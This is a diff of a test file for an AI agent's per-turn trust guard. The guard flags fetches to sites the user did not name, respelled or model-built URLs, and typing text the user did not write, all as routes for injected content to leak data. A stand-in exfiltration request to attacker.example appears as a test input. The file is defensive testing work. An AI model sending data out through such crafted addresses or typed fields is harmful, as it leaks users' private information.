@@ -29,16 +29,43 @@ describe('the turn trust record', () => {
     expect(trust.review(fetchOf('https://attacker.example/c?d=1'))).toMatch(/这一轮已读入外部内容.*你没有提到的网站 attacker\.example.*需要你本人确认/);
   });
 
-  it('keeps the addresses the user wrote open, on any scheme spelling, and reading on from them', () => {
+  it('keeps the addresses the user wrote open exactly as written, and reading on from them', () => {
     const trust = createTurnTrust({ lang: 'en', turnText: 'read https://news.example.com/a/ and example.org/b, and 127.0.0.1:8080/x' });
     trust.entered(page);
-    expect(trust.review(fetchOf('https://news.example.com/a'))).toBeUndefined();
-    expect(trust.review(fetchOf('http://news.example.com/a#top'))).toBeUndefined();
+    expect(trust.review(fetchOf('https://news.example.com/a/'))).toBeUndefined();
+    // The fragment never leaves the machine.
+    expect(trust.review(fetchOf('https://news.example.com/a/#top'))).toBeUndefined();
+    // Typed without a scheme: https, as the browser takes it.
     expect(trust.review(fetchOf('https://example.org/b'))).toBeUndefined();
-    expect(trust.review(fetchOf('http://127.0.0.1:8080/x'))).toBeUndefined();
+    expect(trust.review(fetchOf('https://127.0.0.1:8080/x'))).toBeUndefined();
     // A redirect the server sends from a page that could go: its choice, not the model's.
-    expect(trust.review(fetchOf('https://www.news.example.com/a', 'https://news.example.com/a'))).toBeUndefined();
+    expect(trust.review(fetchOf('https://www.news.example.com/a', 'https://news.example.com/a/'))).toBeUndefined();
     expect(trust.review(fetchOf('https://www.news.example.com/a'))).toBeUndefined();
+  });
+
+  it('asks for every other spelling of the page the user named: the server receives each as sent', () => {
+    const trust = createTurnTrust({ lang: 'en', turnText: 'read http://127.0.0.1:8080/tea and summarise it' });
+    trust.entered({ tool: 'web_fetch', from: 'http://127.0.0.1:8080/tea' });
+    expect(trust.review(fetchOf('http://127.0.0.1:8080/tea'))).toBeUndefined();
+    const respelled = [
+      'http://127.0.0.1:8080//////tea///', 'http://127.0.0.1:8080//tea', 'http://127.0.0.1:8080/%74e%61', 'http://127.0.0.1:8080/tea/',
+      'http://127.0.0.1:8080/tea/..//tea', 'http://127.0.0.1:8080/tea/.', 'https://127.0.0.1:8080/tea', 'http://127.0.0.1:8080/tea?',
+      'http://127.0.0.1:8080/TEA', 'http://127.0.0.1:8080/tea?a',
+    ];
+    for (const url of respelled) expect(trust.review(fetchOf(url)), url).toMatch(/an address the model built|a site you did not name/);
+    // One spelling that passed does not open its look-alikes either.
+    expect(trust.review(fetchOf('http://127.0.0.1:8080/tea#x'))).toBeUndefined();
+    expect(trust.review(fetchOf('http://127.0.0.1:8080/tea//'))).toBeDefined();
+  });
+
+  it('asks for the http spelling of a host typed without a scheme: the tool would request https', () => {
+    const trust = createTurnTrust({ lang: 'en', turnText: 'read example.com/page' });
+    trust.entered(page);
+    expect(trust.review(fetchOf('https://example.com/page'))).toBeUndefined();
+    expect(trust.review(fetchOf('http://example.com/page'))).toBeDefined();
+    expect(trust.review(fetchOf('https://example.com/page/'))).toBeDefined();
+    // A trailing dot on a name is sent as written (the Host header says it).
+    expect(trust.review(fetchOf('https://example.com./page'))).toBeDefined();
   });
 
   it('asks for an address the model built on a host the user named: its path or query can hold the data', () => {
@@ -68,20 +95,44 @@ describe('the turn trust record', () => {
     expect(trust.review({})).toBeUndefined();
   });
 
+  it('on a site the user named, types only what the user wrote: the page decides where typed text goes', () => {
+    const trust = createTurnTrust({
+      lang: 'en',
+      turnText: 'search http://127.0.0.1:8080/shop for green tea, quantity 2',
+      earlierTexts: ['我的名字是 王小明'],
+    });
+    trust.entered({ tool: 'browser_navigate', from: 'http://127.0.0.1:8080/shop' });
+    const typing = (typed: string) => trust.review({ sendsTo: { kind: 'page', url: 'http://127.0.0.1:8080/shop', typed } });
+    for (const typed of ['green tea', '2', '王小明', '小明', '']) expect(typing(typed), typed).toBeUndefined();
+    expect(typing('Dear diary, the safe code is 58-22-91.')).toMatch(/typing "Dear diary.*" on 127\.0\.0\.1:8080, text you did not write yourself/);
+    // Pieces of the user's words cannot spell out something else.
+    for (const typed of ['ee', 'n t', 'gree', 'Green tea', 'green tea ']) expect(typing(typed), typed).toBeDefined();
+    // Clicking there passes: which element is hit says a few bits, no text.
+    expect(trust.review({ sendsTo: { kind: 'page', url: 'http://127.0.0.1:8080/shop/cart' } })).toBeUndefined();
+  });
+
   it('starts a turn with outside content already in the conversation, and counts the user\'s earlier messages', () => {
     const trust = createTurnTrust({ lang: 'en', turnText: 'and what else?', earlierTexts: ['read https://blog.example/post'], earlier: [{ tool: 'web_fetch' }] });
     expect(trust.review(fetchOf('https://attacker.example/c?d=1'))).toBeDefined();
     expect(trust.review(fetchOf('https://blog.example/post'))).toBeUndefined();
   });
 
-  it('reads a request for other conversations only in the user\'s own words of this turn', () => {
+  it('reads a request for other conversations only in the user\'s own words of this turn, and only when they speak of them', () => {
     const asks = (text: string) => createTurnTrust({ lang: 'en', turnText: text }).crossSessionAsked();
-    for (const text of ['search all my conversations for the PIN', '我以前告诉过你什么？', '查一下其他会话里的记录', 'what did I ever tell you about coffee', 'check every chat']) {
-      expect(asks(text), text).toBe(true);
-    }
-    for (const text of ['read https://x.example/page and summarise it', '帮我总结这个网页', 'what do I like to drink?']) {
-      expect(asks(text), text).toBe(false);
-    }
+    const unlock = [
+      'search all my conversations for the PIN', '我以前告诉过你什么？', '查一下其他会话里的记录', 'what did I ever tell you about coffee', 'check every chat',
+      'what did I tell you before, in all my chats?', 'look through other chats', 'in a previous conversation I gave you my address',
+      'I told you earlier about my allergy', 'do you remember my dog\'s name?', '我之前跟你说过我的生日', '翻一下之前的对话', '所有的聊天记录里找一下',
+      '你还记得我喜欢什么吗', '上次的会话里提到的书', 'search across my sessions',
+    ];
+    for (const text of unlock) expect(asks(text), text).toBe(true);
+    const stay = [
+      'read https://x.example/page and summarise it', '帮我总结这个网页', 'what do I like to drink?',
+      'read http://127.0.0.1:8080/tea and summarise everything in it', '总结所有要点', 'before you answer, read the page',
+      'is it ever going to stop raining?', 'prices across the city', '所有', '全部翻译成英文', '其他的呢', '之前那个网页说了什么', '一直下雨吗',
+      'list all the links on the page', 'summarise the previous paragraph',
+    ];
+    for (const text of stay) expect(asks(text), text).toBe(false);
   });
 
   it('finds addresses in a sentence, full and bare, without the punctuation around them', () => {
